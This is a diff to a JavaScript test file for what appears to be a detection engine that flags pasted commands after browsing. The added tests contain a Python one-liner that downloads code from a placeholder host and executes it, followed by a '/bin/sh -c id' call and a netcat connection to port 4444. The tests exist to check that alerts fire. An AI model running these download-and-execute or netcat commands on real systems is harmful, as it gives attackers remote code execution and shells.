@@ -152,3 +152,26 @@ test('where only programs are recorded, what wget was told to write and what is 
   shell.run('/bin/sh x.sh');
   firesAt(await alertsOf(log), 'AN0321', 'medium');
 });
+
+const GET = `exec(__import__("urllib.request").request.urlopen("http://${OUT}/s").read())`;
+
+test('a short program that gets a text by itself and runs it is a pasted command like any other', async () => {
+  for (const network of [true, false]) {
+    const log = new HostLog({ network });
+    log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
+    log.wait(5 * MINUTE);
+    const python = log.shell('dev').run(['/usr/bin/python3', '-c', GET]).connect(OUT, 80);
+    const [alert] = await alertsOf(log);
+    // The only connection is the fetch itself.
+    assert.deepEqual([alert?.severity, alert?.story.includes('reached out')], ['medium', false]);
+    python.run('/bin/sh -c id').run('/usr/bin/nc 203.0.113.9 4444').connect('203.0.113.9', 4444);
+    const [more] = await alertsOf(log);
+    assert.equal(more?.severity, network ? 'high' : 'medium');
+  }
+});
+
+test('a short program that gets a text and shows it runs nothing', async () => {
+  const { log, shell } = browsed();
+  shell.run(['/usr/bin/python3', '-c', GET.replace('exec', 'print')]).connect(OUT, 80);
+  assert.deepEqual(await alertsOf(log), []);
+});
